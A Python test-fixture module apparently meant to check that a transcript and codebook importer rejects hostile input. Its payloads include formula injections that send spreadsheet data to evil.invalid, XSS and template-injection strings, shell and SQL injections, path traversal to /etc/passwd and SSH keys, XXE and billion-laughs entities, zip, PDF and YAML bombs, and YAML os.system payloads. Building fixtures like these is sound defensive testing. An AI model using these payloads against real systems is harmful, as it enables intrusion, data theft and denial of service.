"""Texts and files that a stranger could hand over to do harm, made by code: more than a hundred.

`TEXTS` are words of talk, names of codes, labels, attributes, file names, memos. `FILES` are whole
transcripts and archives, `CODEBOOKS` whole codebooks.
"""

# ruff: noqa: E501
from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.invalid/?",A1),"//a")',
    '=WEBSERVICE("https://evil.invalid/")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "−1",
    '="a\n"&A1',
    '";=1+1;"',
    ",=1+1,",
    "%0A=1+1",
    "|=1+1",
    "#REF!",
    "{=SUM(A1:A9)}",
    "=1+1\x00",
    "1e999",
    "0x7fffffffffffffff",
    "1/2",
    "00012",
    "TRUE",
    "2024-01-01",
    "1.2.3",
    "£-5",
    "-",
    "+44 20 7946 0000",
)
_SCRIPTS = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    '<iframe src="https://evil.invalid/"></iframe>',
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "\"><script>document.title='owned'</script>",
    "' onmouseover='document.title=1' x='",
    "\" autofocus onfocus=\"document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">read this</a>",
    "javascript:document.title='owned'",
    "data:text/html,<script>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    '<base href="https://evil.invalid/">',
    "<form action=https://evil.invalid/><input name=x autofocus>",
    "<style>*{background:url(https://evil.invalid/)}</style>",
    "</style><script>document.title='owned'</script>",
    "--><script>document.title='owned'</script><!--",
    "]]><script>document.title='owned'</script>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>document.title='owned'</script></template>",
    '<object data="https://evil.invalid/"></object>',
    "<details open ontoggle=document.title='owned'>",
    "<video><source onerror=\"document.title='owned'\">",
    "\\u003cscript\\u003edocument.title='owned'\\u003c/script\\u003e",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "&#60;script&#62;document.title=1&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<ſcript>alert(1)</ſcript>",
    '<b style="position:fixed;inset:0;background:red">',
    "red;background:url(https://evil.invalid/)",
    "expression(document.title='owned')",
    "</title><script>document.title='owned'</script>",
    "</textarea><script>document.title='owned'</script>",
    "<plaintext>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{# a comment #}",
    "{0}",
    "{0.__class__}",
    "{name!r:>99999999}",
    "{",
    "}}",
    "%s%s%s%n",
    "%(study)s",
    "%99999999d",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "; rm -rf /",
    "\\x41\\u0041\\N{BULLET}",
    "f'{1+1}'",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "&anchor *anchor",
    "- a: 1",
    "? x",
    "key: [unclosed",
)
_SQL = (
    "'); DROP TABLE decisions; --",
    "' OR '1'='1",
    '"; DELETE FROM transcripts; --',
    "1; ATTACH DATABASE '/tmp/owned.db' AS x",
    "?1",
    ":name",
)
_PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "\\\\evil.invalid\\share\\x",
    "CON",
    "NUL.txt",
    'a/b:c*d?e"f<g>h|i',
    "~/.ssh/id_rsa",
    ".",
    "..",
    "[Sheet]1!A1",
    "'Sheet'!A1",
    "History",
)
_SIGNS = (
    "nul\x00byte",
    "bell\x07 backspace\x08 escape\x1b[31mred",
    "delete\x7f and \x80\x9f",
    "lone \ud800 surrogate",
    "lone \udfff\ud800 surrogates",
    "non-characters \ufffe\uffff\U0001fffe",
    "override \u202egnp.exe\u202c",
    "isolate \u2066left\u2069 \u2067right\u2069",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060",
    "homoglyph аdmin Ρatient",
    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇬🇧",
    "zalgo Z̸̡̢͎̗̞͎̤̭̙̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏a̷l̵g̶o",
    "الوقت لم يكن كافيا",
    "separators\u2028line\u2029paragraph\x85next\x0bvertical\x0cform",
    "soft\u00adhyphen and no\u00a0break",
    "tag \U000e0041\U000e0042\U000e007f",
    "ﷺ ﷽ 𝕳𝖊𝖑𝖑𝖔 Ａｂｃ",
    "İstanbul ß ŉ ǰ ſ",
    "e\u0301 and é",
    "object \ufffc and \ufffd",
    "variation ✔\ufe0f ✔\ufe0e",
    "_x0041_ _x003D_1+1",
    "price $5 and $x_{1}$ and $\\frac{1}{0}$",
    "a;=1+1;-2+3;@x",
    "well ;-) - yes; no | =1+1 \t=1+1 \n=1+1",
    "\u200b=1+1",
    "＝ＷＥＢ（）",
)
_SIZES = (
    "long " + "a" * 40_000,
    "wide " + "😀" * 20_000,
    "words " + "x " * 20_000,
    "line\n" * 3_000,
    "brackets " + "(" * 5_000,
    "quotes " + '"' * 5_000,
    "combining a" + "\u0301" * 5_000,
    "digits " + "9" * 5_000,
    "regex " + "a" * 30 + "!(a+)+$",
)

TEXTS: tuple[str, ...] = (
    *_FORMULAS, *_SCRIPTS, *_TEMPLATES, *_SQL, *_PATHS, *_SIGNS, *_SIZES,
)  # fmt: skip
SHORT_TEXTS = tuple(text for text in TEXTS if text not in _SIZES)


def a_zip(files: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


_ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
_OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def a_document(head: bytes, *, body: bytes = b"&a;") -> bytes:
    xml = (
        head
        + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + b"<w:body><w:p><w:r><w:t>R: "
        + body
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )
    return a_zip(
        {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS, "word/document.xml": xml}
    )


def a_lying_zip() -> bytes:
    """A member that says it has ten bytes and unpacks to ten million."""
    data = bytearray(a_zip({"talk.txt": b"R: no time.\n" * 900_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.index(mark)
        data[start + at : start + at + 4] = struct.pack("<I", 10)
    return bytes(data)


def a_picture_bomb() -> bytes:
    """A PDF whose one stream unpacks to a hundred million bytes."""
    packed = zlib.compress(zlib.compress(b"\x00" * 100_000_000, 9), 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(packed)
    return (
        b"%PDF-1.4\n1 0 obj\n" + stream + b"\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF\n"
    )


def deep(opening: str, closing: str, *, middle: str = "", levels: int = 100_000) -> bytes:
    return (opening * levels + middle + closing * levels).encode()


#: Name of a file to what makes its bytes. Each is read as a transcript, or refused with a reason.
FILES: Mapping[str, Callable[[], bytes]] = {
    "empty.txt": lambda: b"",
    "nulls.txt": lambda: b"\x00" * 5_000,
    "one-line.txt": lambda: b"R: " + b"word " * 2_000_000,
    "no-end.txt": lambda: b"a" * 9_000_000,
    "labels.txt": lambda: b"".join(b"L%d: x\n" % n for n in range(60_000)),
    "colons.txt": lambda: b":" * 400_000,
    "blanks.txt": lambda: b" \t" * 2_000_000 + b"x",
    "returns.txt": lambda: b"\r\n" * 2_000_000 + b"R: x",
    "utf16-cut.txt": lambda: b"\xff\xfe" + "R: time".encode("utf-16-le")[:-1],
    "utf8-broken.txt": lambda: b"R: time \xff\xfe\xfd \xc3\x28 \xed\xa0\x80\n" * 40,
    "deep.json": lambda: deep("[", "]"),
    "deep-objects.json": lambda: deep('{"a":', "}", middle="1"),
    "deep-open.json": lambda: deep("[", ""),
    "digits.json": lambda: b'{"segments": [{"start": ' + b"9" * 100_000 + b', "text": "x"}]}',
    "infinity.json": lambda: b'{"segments": [{"start": 1e999, "end": NaN, "text": "x"}]}',
    "surrogate.json": lambda: b'{"segments": [{"start": 0, "end": 1, "text": "lone \\ud800 x"}]}',
    "twice.json": lambda: b'{"segments": 1, "segments": [{"text": "x", "start": {"a": 1}}]}',
    "types.json": lambda: b'{"segments": [{"start": [], "end": {}, "text": {"$ne": 1}}]}',
    "proto.json": lambda: b'{"__proto__": {"a": 1}, "segments": [{"text": "x", "start": 0, "end": 1}]}',
    "many.json": lambda: json.dumps([[]] * 1_500_000).encode(),
    "entities.eaf": lambda: b"<?xml version='1.0'?>" + _ENTITIES + b"<ANNOTATION_DOCUMENT>&d;</ANNOTATION_DOCUMENT>",
    "outside.eaf": lambda: _OUTSIDE + b"<ANNOTATION_DOCUMENT><TIER>&a;</TIER></ANNOTATION_DOCUMENT>",
    "deep.eaf": lambda: deep("<a>", "</a>"),
    "deep.html": lambda: deep("<div>", "</div>", middle="R: time", levels=60_000),
    "tags.html": lambda: b"<html><body>" + b"<p" * 200_000,
    "attributes.html": lambda: b"<html><body><p " + b"a=b " * 200_000 + b">R: x</p>",
    "script.html": lambda: b"<html><body><script>document.title='owned'</script><p>R: time</p></body></html>",
    "entities.docx": lambda: a_document(_ENTITIES, body=b"&d;"),
    "outside.docx": lambda: a_document(_OUTSIDE),
    "deep.docx": lambda: a_document(b"", body=deep("<w:r>", "</w:r>", levels=20_000)),
    "bomb.docx": lambda: a_zip({"[Content_Types].xml": _TYPES, "word/document.xml": b" " * 60_000_000}),
    "climbing.docx": lambda: a_zip({"../../word/document.xml": b"<x/>"}),
    "empty.docx": lambda: a_zip({}),
    "entities.odt": lambda: a_zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": _ENTITIES + b"<x>&d;</x>"}),
    "bomb.odt": lambda: a_zip({"content.xml": b" " * 60_000_000}),
    "entities.xlsx": lambda: a_zip({"[Content_Types].xml": _ENTITIES + _TYPES, "xl/workbook.xml": b"<x/>"}),
    "bomb.xlsx": lambda: a_zip({"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"<x/>", "xl/sharedStrings.xml": b" " * 60_000_000}),
    "climbing.zip": lambda: a_zip({"../../../tmp/owned.txt": b"R: owned\n", "/tmp/owned.txt": b"R: owned\n"}),
    "lying.zip": a_lying_zip,
    "nested.zip": lambda: a_zip({"a.zip": a_zip({"b.zip": a_zip({"c.txt": b"R: deep down\n"})})}),
    "bomb.zip": lambda: a_zip({"talk.txt": b"R: time\n" * 8_000_000}),
    "many.zip": lambda: a_zip({f"{n}.txt": b"R: x\n" for n in range(8_000)}),
    "names.zip": lambda: a_zip({text.replace("\x00", ""): b"R: x\n" for text in (*_PATHS, "a\nb.txt", "=1+1.txt", "<script>.txt")}),
    "same.zip": lambda: a_zip({"a.txt": b"R: one\n", "A.TXT": b"R: two\n"}),
    "entities.qdpx": lambda: a_zip({"project.qde": _ENTITIES + b"<Project>&d;</Project>"}),
    "climbing.qdpx": lambda: a_zip({"project.qde": b'<Project xmlns="urn:QDA-XML:project:1.0"><Sources><TextSource guid="1" name="x" plainTextPath="relative:///../../../../etc/passwd"/></Sources></Project>'}),
    "cut.pdf": lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n%%EOF",
    "loop.pdf": lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
    "bomb.pdf": a_picture_bomb,
    "deep.rtf": lambda: b"{\\rtf1 " + b"{" * 200_000 + b"R: x" + b"}" * 200_000 + b"}",
    "object.rtf": lambda: b"{\\rtf1 {\\object\\objdata 0105" + b"41" * 9_000 + b"} R: time\\par}",
    "field.rtf": lambda: b'{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt x}} R: time\\par}',
    "numbers.rtf": lambda: b"{\\rtf1 \\u" + b"9" * 20_000 + b"? R: time\\par}",
    "stamps.vtt": lambda: b"WEBVTT\n\n99999999999:00:00.000 --> 00:00:00.000\n<v " + b"A" * 90_000 + b">x\n",
    "style.vtt": lambda: b"WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.invalid/) }\n\n00:00.000 --> 00:01.000\n<v R>time</v>\n",
    "many.srt": lambda: b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nR: x\n\n" % n for n in range(60_000)),
    "tiers.cha": lambda: b"@UTF8\n@Begin\n" + b"".join(b"*P%02d:\tx .\n" % (n % 100) for n in range(60_000)) + b"@End\n",
    "wide.csv": lambda: b"speaker,text\n" + b"R," + b"," * 500_000 + b"\n",
    "quotes.csv": lambda: b'speaker,text\nR,"' + b'""' * 500_000,
    "cell.csv": lambda: b"speaker,text\nR," + b"x" * 6_000_000 + b"\n",
}  # fmt: skip


def a_yaml_bomb(last: str) -> bytes:
    """Nine aliases of ten aliases each, and a codebook of what they come to."""
    lines = ["a: &a [x,x,x,x,x,x,x,x,x,x]"]
    for before, name in zip("abcdefghi", "bcdefghij", strict=True):
        lines.append(f"{name}: &{name} [{','.join(['*' + before] * 10)}]")
    return ("\n".join(lines) + f"\ncodes:\n- name: x\n  {last}: *j\n").encode()


def a_chain(levels: int) -> bytes:
    rows = (f"- {{name: n{n}, id: i{n}, parent: i{n - 1}}}\n" for n in range(1, levels))
    return ("codes:\n- {name: n0, id: i0}\n" + "".join(rows)).encode()


_QDC = b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>%s</Codes></CodeBook>'

#: Name of a file to what makes its bytes. Each is refused with a reason.
CODEBOOKS: Mapping[str, Callable[[], bytes]] = {
    "bomb.yaml": lambda: a_yaml_bomb("definition"),
    "bomb-examples.yaml": lambda: a_yaml_bomb("examples"),
    "itself.yaml": lambda: b"codes: &a\n- name: x\n  definition: *a\n",
    "deep.yaml": lambda: b"codes: " + deep("[", "]"),
    "dashes.yaml": lambda: b"codes:\n" + b"- " * 100_000 + b"x",
    "braces.yaml": lambda: b"codes: " + deep("{a: ", "}", middle="1"),
    "python.yaml": lambda: b"codes: !!python/object/apply:os.system ['touch /tmp/owned']",
    "new.yaml": lambda: b"codes:\n- !!python/object/new:os.system [id]\n",
    "digits.yaml": lambda: b"codes:\n- name: " + b"9" * 100_000,
    "date.yaml": lambda: b"codes:\n- name: 2024-13-45\n",
    "surrogate.yaml": lambda: b'codes:\n- name: "a\\ud800"\n',
    "nul.yaml": lambda: b"codes:\n- name: 'a\x00b'\n",
    "long.yaml": lambda: b"codes:\n- name: " + b"a" * 5_000_000,
    "chain.yaml": lambda: a_chain(3_000),
    "ten-million.yaml": lambda: b"codes:\n" + b"- name: x\n" * 10_000_000,
    "many.yaml": lambda: b"codes:\n" + b"- name: x\n" * 20_000,
    "ten-million.csv": lambda: b"name\n" + b"x\n" * 10_000_000,
    "many.csv": lambda: b"name,definition\n" + b"x,y\n" * 60_000,
    "deep.qdc": lambda: _QDC % deep('<Code guid="1" name="x">', "</Code>", levels=20_000),
    "many.qdc": lambda: _QDC % (b'<Code guid="1" name="x"/>' * 100_000),
    "entities.qdc": lambda: _ENTITIES + _QDC % b'<Code guid="1" name="&d;"/>',
    "outside.qdc": lambda: _OUTSIDE + _QDC % b'<Code guid="1" name="&a;"/>',
    "bomb.xlsx": lambda: FILES["bomb.xlsx"](),
    "entities.xlsx": lambda: FILES["entities.xlsx"](),
}
